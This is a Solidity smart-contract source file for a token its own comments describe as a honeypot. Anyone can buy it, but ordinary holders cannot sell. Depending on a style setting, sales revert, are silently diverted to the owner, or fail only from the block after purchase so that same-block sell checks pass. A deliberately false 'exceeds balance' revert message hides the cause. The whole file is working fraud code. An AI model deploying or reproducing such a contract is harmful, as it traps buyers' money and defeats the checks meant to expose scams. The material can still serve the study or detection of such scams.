// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {Erc20} from "./base/Erc20.sol";
import {Owned} from "./base/Owned.sol";

/// @title A honeypot: anyone can buy, nobody but the owner and those it exempts can sell.
/// @dev The public interface reads like any fee token's. `style` 0: a sale reverts. 1: a sale succeeds and the pair
/// receives nothing, all of it goes to the owner (the sale then fails in the pair or yields nothing). 2: as 0, but
/// only from the block after the buyer's last purchase on, so that a test in one block passes. The owner must name
/// the pair with `setMarketPair` once it exists; until then everything moves freely.
contract HoneypotToken is Erc20, Owned {
    address public marketPair;
    mapping(address => bool) public isExcludedFromFees;
    uint8 private immutable _style;
    mapping(address => uint256) private _since;

    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_, uint8 style) {
        _describe(name_, symbol_, 18);
        _setOwner(owner_);
        isExcludedFromFees[owner_] = true;
        _style = style;
        _mint(owner_, supply);
    }

    function setMarketPair(address pair) external onlyOwner {
        marketPair = pair;
    }

    function excludeFromFees(address account, bool excluded) external onlyOwner {
        isExcludedFromFees[account] = excluded;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (from == marketPair) _since[to] = block.number;
        if (to == marketPair && from != owner && !isExcludedFromFees[from]) {
            if (_style == 1) {
                super._move(from, owner, value);
                return;
            }
            require(_style == 2 && _since[from] == block.number, "ERC20: transfer amount exceeds balance");
        }
        super._move(from, to, value);
    }
}
